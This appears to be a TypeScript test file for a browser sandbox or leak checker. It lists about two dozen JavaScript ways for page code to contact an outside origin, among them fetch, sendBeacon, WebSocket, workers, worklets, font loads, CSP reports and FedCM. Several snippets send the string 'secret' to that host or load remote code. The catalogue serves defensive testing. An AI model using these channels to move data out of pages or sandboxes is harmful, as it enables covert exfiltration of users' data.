import { ways } from "../way.ts";

export const requests = ways({
  fetch: `await fetch(there + "/?secret");`,
  "fetch without CORS": `await fetch(there, { mode: "no-cors" });`,
  "fetch with keepalive": `await fetch(there, { mode: "no-cors", keepalive: true, method: "POST", body: "secret" });`,
  fetchLater: `fetchLater(there, { activateAfter: 0 }); await sleep(300);`,
  XMLHttpRequest: `const x = new XMLHttpRequest(); x.open("POST", there); x.send("secret"); await sleep(150);`,
  sendBeacon: `navigator.sendBeacon(there, "secret"); await sleep(150);`,
  WebSocket: `new WebSocket(there.replace("http", "ws")); await sleep(150);`,
  WebSocketStream: `new WebSocketStream(there.replace("http", "ws")); await sleep(150);`,
  EventSource: `new EventSource(there); await sleep(150);`,
  WebTransport: {
    code: `const t = new WebTransport(there.replace("http", "https")); await t.ready.catch(() => {});`,
    isHarmless: true,
  },
  "a dynamic import": `await import(there + "/module.js").catch(() => {});`,
  "a worker": { code: `new Worker(there + "/worker.js"); await sleep(150);`, isHarmless: true },
  "a worker from a blob URL": `
    const url = URL.createObjectURL(new Blob(["fetch('" + there + "', { mode: 'no-cors' })"], { type: "text/javascript" }));
    new Worker(url); await sleep(300);`,
  "a shared worker": `new SharedWorker(URL.createObjectURL(new Blob(["fetch('" + there + "')"]))); await sleep(200);`,
  "a service worker": {
    code: `await navigator.serviceWorker.register(there + "/worker.js").catch(() => {});`,
    isHarmless: true,
  },
  "a worklet": `await new AudioContext().audioWorklet.addModule(there + "/w.js").catch(() => {});`,
  "a paint worklet": `await CSS.paintWorklet.addModule(there + "/w.js").catch(() => {});`,
  "speculation rules": {
    code: `const s = document.createElement("script"); s.type = "speculationrules";
      s.textContent = JSON.stringify({ prefetch: [{ urls: [there], eagerness: "immediate" }], prerender: [{ urls: [there], eagerness: "immediate" }] });
      document.head.append(s); await sleep(300);`,
    isHarmless: true,
  },
  "a font face": `await new FontFace("leak", "url(" + there + "/font.woff2)").load().catch(() => {});`,
  "a Content Security Policy with reports": {
    code: `const m = document.createElement("meta"); m.httpEquiv = "Content-Security-Policy"; m.content = "img-src 'none'; report-uri " + there;
      document.head.append(m); new Image().src = "data:image/gif;base64,R0lGOD"; await sleep(200);`,
    isHarmless: true,
  },
  "a payment method": {
    code: `await new PaymentRequest([{ supportedMethods: there }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment().catch(() => {});`,
    isHarmless: true,
  },
  "a FedCM login": `await navigator.credentials.get({ identity: { providers: [{ configURL: there + "/c.json", clientId: "1" }] } }).catch(() => {});`,
  "an ad interest group": {
    code: `await navigator.joinAdInterestGroup({ owner: there, name: "x", biddingLogicURL: there }, 9).catch(() => {});`,
    isHarmless: true,
  },
  "a notification with an image": {
    code: `new Notification("x", { icon: there }); await sleep(150);`,
    isHarmless: true,
  },
});
